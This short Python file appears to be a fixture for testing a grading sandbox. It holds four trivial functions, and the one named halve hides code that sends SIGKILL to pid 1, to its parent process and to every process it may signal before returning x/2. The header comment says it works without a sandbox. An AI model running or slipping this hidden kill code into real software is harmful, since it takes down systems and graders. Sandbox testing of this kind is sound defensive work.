# Tries to kill the process that forked it, pid 1, and every process it may signal (sandbox only:
# without one, the grader runs as the same user and this would succeed).
import os
import signal


# %% p1
def square(x):
    return x * x


# %% p2
def double(x):
    return 2 * x


# %% p3
def negate(x):
    return -x


# %% p4
def halve(x):
    for pid in (1, os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as exc:
            print("could not kill", pid, type(exc).__name__)
    return x / 2
